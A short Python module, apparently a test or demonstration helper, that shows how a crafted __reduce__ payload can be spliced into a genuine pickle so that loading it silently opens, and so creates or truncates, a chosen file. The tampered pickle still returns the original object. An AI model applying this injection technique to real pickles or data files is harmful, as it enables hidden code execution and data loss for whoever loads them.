"""Pickles of strangers: what runs code where somebody unpickles it freely."""

import pickle
import pickletools


class Touches:
    """Once unpickled, the file at `path` is there."""

    def __init__(self, path):
        self._path = str(path)

    def __reduce__(self):
        return open, (self._path, "w")


def touching(path, genuine):
    """The bytes of the pickle `genuine`, which touch `path` on their way."""
    code = pickletools.optimize(pickle.dumps(Touches(path), 2))  # keeps no number of the memo
    assert genuine[:1] == pickle.PROTO
    return genuine[:2] + code[2:-1] + pickle.POP + genuine[2:]
